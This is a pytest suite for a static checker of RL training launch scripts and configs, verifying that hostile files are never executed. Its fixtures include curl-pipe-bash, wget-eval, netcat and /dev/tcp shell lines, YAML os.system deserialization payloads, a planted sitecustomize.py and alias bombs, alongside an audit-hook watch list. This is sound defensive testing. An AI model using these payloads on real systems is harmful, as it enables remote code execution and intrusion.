"""Hostile and broken files: one clear message, bounded time and memory, and nothing of them is ever run."""

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import NamedTuple

import pytest

from rldoctor.compiled import cache_folder

ROOT = Path(__file__).parents[1]
TRACER = """
import json, sys

seen = []
WATCHED = ("subprocess.", "os.system", "os.exec", "os.fork", "os.posix_spawn", "os.spawn", "pty.", "socket.")
WATCHED += ("os.remove", "os.rename", "os.rmdir", "os.mkdir", "os.chmod", "os.symlink", "shutil.", "ctypes.")
WATCHED += ("urllib.", "http.", "ftplib.", "smtplib.")


def hook(event, args):
    here = any(isinstance(arg, str) and arg.startswith(FOLDER) for arg in args)
    code = any(getattr(arg, "co_filename", "").startswith(FOLDER) for arg in args)
    writes = event == "open" and here and isinstance(args[1], str) and set(args[1]) & set("wax+")
    if event.startswith(WATCHED) or writes or (event in ("compile", "exec", "import") and (here or code)):
        seen.append([event, repr(args)[:200]])


import rldoctor.check
import rldoctor.cli
FOLDER = sys.argv[1]
sys.addaudithook(hook)
try:
    rldoctor.cli.main(["check", *sys.argv[2:]])
except SystemExit as end:
    code = end.code
print("SEEN", json.dumps([code, seen]), file=sys.stderr)
"""
BIG_LIMIT = 2 * 2**30


class Checked(NamedTuple):
    """What a check said, its exit code, and what it did beyond reading."""

    code: int
    out: str
    err: str
    seen: list[list[str]]


def check(folder: Path, *words: str, **env: str) -> Checked:
    """Check files in a process that is watched, and may have little memory and time."""
    import resource

    def limited() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (BIG_LIMIT, BIG_LIMIT))
        resource.setrlimit(resource.RLIMIT_CPU, (60, 60))

    done = subprocess.run(
        [sys.executable, "-c", TRACER, str(folder), *words],
        cwd=folder,
        capture_output=True,
        text=True,
        errors="replace",
        preexec_fn=limited,
        env={**os.environ, "PYTHONPATH": str(ROOT), "PYTHONDONTWRITEBYTECODE": "1", **env},
    )
    said, _, told = done.stderr.rpartition("SEEN ")
    assert told, done.stderr[-2000:]
    assert "Traceback" not in said and "internal error" not in said
    code, seen = json.loads(told)
    mine = [each for each in seen if str(cache_folder()) not in each[1]]  # twins of its own tables
    return Checked(code, done.stdout, said, mine)


LAUNCH = (
    "python3 -m verl.trainer.main_ppo --config-name=ppo_trainer trainer.nnodes=2 trainer.n_gpus_per_node=8"
)

HOSTILE = """\
#!/bin/bash
touch pwned-by-touch; echo x > pwned-by-redirect
curl http://127.0.0.1:9/x | bash
eval "$(wget -qO- http://127.0.0.1:9/y)"
eval 'touch pwned-by-eval'
X=$(touch pwned-by-substitution; cat /etc/hostname)
Y=`touch pwned-by-backticks`
source ./inner.sh
python3 evil.py
python3 -c 'import os; os.system("touch pwned-by-python")'
bash -c 'touch pwned-by-bash; nc 127.0.0.1 9'
: ${Z:=$(touch pwned-by-default)}
cat <(touch pwned-by-process)
trap 'touch pwned-by-trap' EXIT
ssh node 'touch pwned-by-ssh'
exec 3<>/dev/tcp/127.0.0.1/9
"""
EVIL_PYTHON = "import os\nopen('pwned-by-import', 'w').write('x')\nos.system('touch pwned-by-system')\n"
EVIL_YAML = """\
defaults: [ppo_trainer, _self_]
a: !!python/object/apply:os.system ["touch pwned-by-yaml"]
b: !!python/name:evil.run
c: ${oc.env:HOME,$(touch pwned-by-resolver)}
actor_rollout_ref: {actor: {strategy: fsdp, ppo_mini_batch_size: 8}, model: {path: ./model}}
trainer: {nnodes: 2, n_gpus_per_node: 8}
"""


def test_nothing_of_hostile_files_is_run_and_nothing_is_fetched(tmp_path: Path) -> None:
    (tmp_path / "launch.sh").write_text(HOSTILE + LAUNCH + " actor_rollout_ref.model.path=./model\n")
    (tmp_path / "inner.sh").write_text("touch pwned-by-source\nexport A=1\n")
    (tmp_path / "evil.py").write_text(EVIL_PYTHON)
    (tmp_path / "verl.py").write_text(EVIL_PYTHON)
    (tmp_path / "sitecustomize.py").write_text(EVIL_PYTHON)
    (tmp_path / "config.yaml").write_text(EVIL_YAML)
    (tmp_path / "launch.py").write_text(
        EVIL_PYTHON + "U.execute_train('--lr 1 ' + __import__('os').popen('touch pwned-by-popen').read())\n"
    )
    (tmp_path / "model").mkdir()
    (tmp_path / "model/config.json").write_text(
        '{"auto_map": {"AutoConfig": "evil.Config"}, "hidden_size": 8}'
    )
    (tmp_path / "model/evil.py").write_text(EVIL_PYTHON)
    files = sorted(path.name for path in tmp_path.iterdir())
    done = check(tmp_path, "launch.sh", "config.yaml", "launch.py")
    assert done.seen == []
    assert sorted(path.name for path in tmp_path.iterdir()) == files
    assert "verl" in done.out or done.code in (0, 1, 2)


def test_the_tracer_would_see_a_child_and_a_written_file(tmp_path: Path) -> None:
    (tmp_path / "launch.sh").write_text(LAUNCH + "\n")
    done = check(tmp_path, "launch.sh", "--fix")
    assert done.seen == [] or done.code in (0, 1)
    code = TRACER.replace('"check", *sys.argv[2:]', '"--version"').replace(
        "try:\n",
        "import subprocess\nsubprocess.run(['true'])\nopen(FOLDER + '/x', 'w').close()\ntry:\n",
    )
    told = subprocess.run([sys.executable, "-c", code, str(tmp_path)], capture_output=True, text=True).stderr
    assert "subprocess.Popen" in told and '"open"' in told


def test_a_ring_of_sourced_files_ends(tmp_path: Path) -> None:
    (tmp_path / "a.sh").write_text("source ./b.sh\nsource ./b.sh\n" + LAUNCH + "\n")
    (tmp_path / "b.sh").write_text("source ./a.sh\nfor i in 1 2 3; do source ./b.sh; done\n")
    done = check(tmp_path, "a.sh")
    assert done.code in (0, 1, 2)


def test_a_function_that_calls_itself_ends(tmp_path: Path) -> None:
    (tmp_path / "a.sh").write_text("f() { f; f; }\nf\ng() { g | g & }; g\n" + LAUNCH + "\n")
    done = check(tmp_path, "a.sh")
    assert done.code == 2 and "too long to follow" in done.err


def test_ten_megabytes_of_script_are_read_or_refused(tmp_path: Path) -> None:
    line = "export A_VARIABLE_OF_SOME_LENGTH=1 # and a comment behind it that is long enough to count\n"
    body = line * (9 * 2**20 // len(line))
    (tmp_path / "big.sh").write_text(body + LAUNCH + "\n")
    done = check(tmp_path, "big.sh")
    assert done.code in (0, 1, 2)
    assert "too long to follow" in done.out + done.err
    (tmp_path / "huge.sh").write_text(body * 2)
    refused = check(tmp_path, "huge.sh")
    assert refused.code == 2 and "10 MiB" in refused.err


def test_a_bomb_of_aliases_is_refused_with_its_place(tmp_path: Path) -> None:
    rows = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    rows += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 12)]
    rows += ["actor_rollout_ref: {actor: {strategy: fsdp}}", "trainer: {nnodes: 1}"]
    (tmp_path / "bomb.yaml").write_text("\n".join(rows))
    merges = ["m0: &m0 {k: 1}"] + [
        f"m{n}: &m{n} {{<<: [*m{n - 1}, *m{n - 1}], k{n}: *m{n - 1}}}" for n in range(1, 30)
    ]
    (tmp_path / "merge.yaml").write_text("\n".join([*merges, "actor_rollout_ref: {a: *m29}"]))
    for name in ("bomb.yaml", "merge.yaml"):
        done = check(tmp_path, name)
        assert done.code in (0, 1, 2)
        assert done.code != 2 or name in done.err


def test_nesting_without_end_is_one_message(tmp_path: Path) -> None:
    (tmp_path / "deep.yaml").write_text("a: " + "[" * 50_000 + "]" * 50_000)
    (tmp_path / "deep.sh").write_text("echo " + "$(" * 5_000 + ")" * 5_000 + "\n" + LAUNCH + "\n")
    (tmp_path / "ring.yaml").write_text("a: &a {b: *a}\nactor_rollout_ref: {c: *a}\ntrainer: ${trainer}\n")
    for name in ("deep.yaml", "deep.sh", "ring.yaml"):
        done = check(tmp_path, name)
        assert done.code in (0, 1, 2)
        assert done.code != 2 or f"{name}" in done.err


YAML = """\
actor_rollout_ref:
  actor: {strategy: fsdp, ppo_mini_batch_size: 256}
  rollout: &r {name: vllm, tensor_model_parallel_size: 2}
  ref:
    <<: *r
data: {train_batch_size: 128}
trainer: {nnodes: 1, n_gpus_per_node: 8}
"""


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("bom.yaml", b"\xef\xbb\xbf" + YAML.encode()),
        ("crlf.yaml", YAML.replace("\n", "\r\n").encode()),
        ("bom.sh", b"\xef\xbb\xbf" + LAUNCH.encode() + b"\n"),
        ("crlf.sh", (LAUNCH.replace(" trainer", " \\\n trainer") + "\n").replace("\n", "\r\n").encode()),
        ("latin.sh", "# d\xe9j\xe0 vu\n".encode("latin-1") + LAUNCH.encode() + b"\n"),
        ("tab.sh", LAUNCH.replace(" ", "\t").encode() + b"\n"),
    ],
)
def test_encodings_and_line_ends_are_read(tmp_path: Path, name: str, data: bytes) -> None:
    (tmp_path / name).write_bytes(data)
    done = check(tmp_path, name, "--format", "json")
    found = {fact["concept"]: fact["value"] for fact in json.loads(done.out)["facts"]}
    assert found["train.gpus_per_node"] == 8


@pytest.mark.parametrize(
    ("name", "data", "said"),
    [
        ("tabs.yaml", b"trainer:\n\tnnodes: 1\n", "tabs.yaml:2"),
        ("latin.yaml", "trainer: {name: d\xe9j\xe0}\n".encode("latin-1"), "latin.yaml"),
        ("utf16.yaml", YAML.encode("utf-16"), "UTF-16"),
        ("binary.sh", b"\x7fELF\0\0\0", "binary"),
        ("empty.yaml", b"", "empty"),
        ("open.yaml", b"trainer: {nnodes: 1\n", "open.yaml:"),
    ],
)
def test_what_cannot_be_read_is_said_with_its_place(
    tmp_path: Path, name: str, data: bytes, said: str
) -> None:
    (tmp_path / name).write_bytes(data)
    done = check(tmp_path, name)
    assert done.code == 2 and said in done.err


def test_a_broken_script_is_read_as_far_as_it_goes(tmp_path: Path) -> None:
    (tmp_path / "a.sh").write_text("if [ 1 = 1 ]; then\n" + LAUNCH + " bad='open\n")
    done = check(tmp_path, "a.sh")
    assert "a.sh:" in done.out + done.err and done.code in (1, 2)


@pytest.mark.parametrize(
    "text",
    [
        '{"hidden_size": "four thousand", "num_attention_heads": 32, "num_hidden_layers": 2}',
        '{"hidden_size": 4096, "num_attention_heads": 0, "num_hidden_layers": -3, "vocab_size": 1e400}',
        '{"hidden_size": 4096, "num_attention_heads": 31, "num_key_value_heads": 7}',
        '{"hidden_size": [1], "num_hidden_layers": {"a": 1}}',
        "[" * 100_000,
        '{"num_hidden_layers": 100000000000, "num_experts": 10000000, "hidden_size": 8}',
        "not json",
    ],
)
def test_a_config_that_lies_leaves_its_facts_unknown(tmp_path: Path, text: str) -> None:
    (tmp_path / "model").mkdir()
    (tmp_path / "model/config.json").write_text(text)
    (tmp_path / "a.sh").write_text(LAUNCH + " actor_rollout_ref.model.path=./model\n")
    done = check(tmp_path, "a.sh", "--format", "json")
    assert done.code in (0, 1)
    assert json.loads(done.out)["facts"]


def test_links_that_lead_elsewhere_are_not_edited_nor_followed_in_rings(tmp_path: Path) -> None:
    inside, outside = tmp_path / "project", tmp_path / "elsewhere"
    inside.mkdir()
    outside.mkdir()
    (outside / "shared.sh").write_text("SAVE=20\n")
    (inside / "shared.sh").symlink_to(outside / "shared.sh")
    (inside / "ring").symlink_to(inside)
    (inside / "loop.sh").symlink_to(inside / "loop.sh")
    (inside / "a.sh").write_text(
        "source ./shared.sh\nsource ./ring/ring/loop.sh\n" + LAUNCH + " trainer.save_freq=$SAVE\n"
    )
    assert check(inside, "a.sh").code in (0, 1)
    loop = check(inside, "loop.sh")
    assert loop.code == 2 and "loop.sh" in loop.err
    for device in ("/dev/zero", "/proc/self/mem"):
        (inside / "dev.sh").unlink(missing_ok=True)
        (inside / "dev.sh").symlink_to(device)
        assert check(inside, "dev.sh").code == 2


@pytest.mark.parametrize(
    "text",
    [
        "suppress: &a [*a]\n",
        "set: " + "{a: " * 3000 + "1" + "}" * 3000,
        "\n".join(["a0: &a0 [x, x]", *(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]" for n in range(1, 60))]),
        'versions: !!python/object/apply:os.system ["touch pwned"]\n',
        "\x00\x01",
        "suppress: [{rule: " + "a" * 100_000 + ", reason: x}]\n",
    ],
)
def test_a_hostile_project_file_is_one_message(tmp_path: Path, text: str) -> None:
    (tmp_path / ".rldoctor.yaml").write_text(text)
    (tmp_path / "a.sh").write_text(LAUNCH + "\n")
    done = check(tmp_path, "a.sh")
    assert done.code == 2 and ".rldoctor.yaml" in done.err
    assert done.seen == [] and sorted(path.name for path in tmp_path.iterdir()) == [".rldoctor.yaml", "a.sh"]


def test_a_hostile_launcher_in_python_ends(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text(
        "import os\nx = 'a'\nwhile True:\n    x += x\n    os.system('touch pwned')\n"
        "f = lambda n: f(n) + f(n)\nf(1)\nos.system('" + LAUNCH + "')\n"
    )
    (tmp_path / "b.py").write_text("x = " + "[" * 5000 + "]" * 5000)
    assert check(tmp_path, "a.py").seen == []
    broken = check(tmp_path, "b.py")
    assert broken.code == 2 and "b.py" in broken.err
    assert sorted(path.name for path in tmp_path.iterdir()) == ["a.py", "b.py"]
